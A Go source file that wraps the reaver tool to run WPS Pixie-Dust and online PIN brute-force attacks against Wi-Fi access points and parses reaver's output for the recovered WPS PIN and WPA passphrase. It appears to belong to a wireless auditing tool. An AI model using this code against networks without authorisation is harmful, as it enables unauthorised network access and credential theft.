package tools

import (
	"bufio"
	"context"
	"fmt"
	"regexp"
	"strconv"
	"strings"
)

var (
	reaverPINRe      = regexp.MustCompile(`WPS PIN:\s*'?(\d+)'?`)
	reaverPSKRe      = regexp.MustCompile(`WPA PSK:\s*'(.*?)'`)
	reaverProgressRe = regexp.MustCompile(`(\d+\.\d+)% complete`)
	reaverLockedRe   = regexp.MustCompile(`(?i)rate limiting`)
)

// Reaver wraps the reaver binary for WPS attacks.
type Reaver struct {
	name string
	tool *ExternalTool
}

func NewReaver(name string) *Reaver {
	return &Reaver{
		name: name,
		tool: &ExternalTool{Name: name, Required: false},
	}
}

func (r *Reaver) Available() bool {
	return r.tool.Exists()
}

// WPSResult holds what reaver recovered.
type WPSResult struct {
	PIN string
	PSK string
}

// PixieDust runs the offline Pixie-Dust attack and waits for it to finish.
func (r *Reaver) PixieDust(ctx context.Context, iface, bssid string, channel int) (*WPSResult, error) {
	out, err := RunCapture(ctx, r.name, r.args(iface, bssid, channel, "-K", "1")...)
	result := ParseReaverOutput(bufio.NewScanner(strings.NewReader(out)))
	if result == nil {
		if err != nil {
			return nil, fmt.Errorf("pixie-dust: %w", err)
		}
		return nil, fmt.Errorf("pixie-dust: no PIN recovered")
	}
	return result, nil
}

// PINSearch starts the online PIN brute force with output piped back for
// progress parsing.
func (r *Reaver) PINSearch(ctx context.Context, iface, bssid string, channel int) (*Process, error) {
	return StartPiped(ctx, r.name, r.args(iface, bssid, channel)...)
}

func (r *Reaver) args(iface, bssid string, channel int, extra ...string) []string {
	args := []string{"-i", iface, "-b", bssid}
	if channel > 0 {
		args = append(args, "-c", strconv.Itoa(channel))
	}
	args = append(args, extra...)
	return append(args, "-vv")
}

// ReaverLine is one parsed line of reaver output.
type ReaverLine struct {
	PIN      string
	PSK      string
	Progress float64 // percent, -1 when the line has none
	Limited  bool
}

// ParseReaverLine extracts what a single reaver output line reports.
func ParseReaverLine(line string) ReaverLine {
	rl := ReaverLine{Progress: -1}
	if m := reaverPINRe.FindStringSubmatch(line); len(m) > 1 {
		rl.PIN = m[1]
	}
	if m := reaverPSKRe.FindStringSubmatch(line); len(m) > 1 {
		rl.PSK = m[1]
	}
	if m := reaverProgressRe.FindStringSubmatch(line); len(m) > 1 {
		rl.Progress, _ = strconv.ParseFloat(m[1], 64)
	}
	rl.Limited = reaverLockedRe.MatchString(line)
	return rl
}

// ParseReaverOutput returns the PIN and PSK found in reaver output, or nil
// when no PIN was printed.
func ParseReaverOutput(scanner *bufio.Scanner) *WPSResult {
	result := &WPSResult{}
	for scanner.Scan() {
		rl := ParseReaverLine(scanner.Text())
		if rl.PIN != "" {
			result.PIN = rl.PIN
		}
		if rl.PSK != "" {
			result.PSK = rl.PSK
		}
	}
	if result.PIN != "" {
		return result
	}
	return nil
}
